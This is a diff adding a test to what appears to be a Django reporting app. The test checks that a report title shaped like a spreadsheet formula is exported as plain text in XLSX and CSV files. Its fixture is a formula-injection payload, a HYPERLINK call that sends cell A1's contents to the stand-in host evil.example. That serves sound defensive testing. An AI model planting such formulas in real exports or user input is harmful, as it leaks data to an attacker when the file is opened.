@@ -142,3 +142,31 @@ def test_figure_exports_go_through_the_scope(units: Units, year: Period, alice: 
     ok = client.get(f"/reporting/figures.xlsx?period={year.pk}&unit={units.commune_a.code}")
     assert ok.status_code == 200
     assert AuditEntry.objects.filter(action=AuditAction.EXPORT, unit_id=units.commune_a.pk).count() == 1
+
+
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+
+
+def test_a_report_title_that_looks_like_a_formula_is_written_as_text_on_every_xlsx_sheet_and_in_the_csv(
+    province_report: Report, pat: Any
+) -> None:
+    import zipfile
+
+    report = services.update_report(
+        actor=pat, report=province_report, version=province_report.version, title=FORMULA_TITLE
+    )
+    client = client_for(pat)
+    data = client.get(f"/reporting/reports/{report.pk}/export.xlsx").content
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert len(sheets) == 2
+        for name in sheets:
+            assert "<f>" not in archive.read(name).decode()  # no live formula anywhere
+    workbook = load_workbook(io.BytesIO(data))
+    for sheet in workbook.worksheets:
+        cell = sheet["A1"]
+        assert cell.value == FORMULA_TITLE and cell.data_type == "s" and cell.quotePrefix
+    csv_text = client.get(f"/reporting/reports/{report.pk}/export.csv").content.decode("utf-8-sig")
+    assert all(
+        not cell.startswith(("=", "+", "-", "@")) for row in csv.reader(io.StringIO(csv_text)) for cell in row
+    )
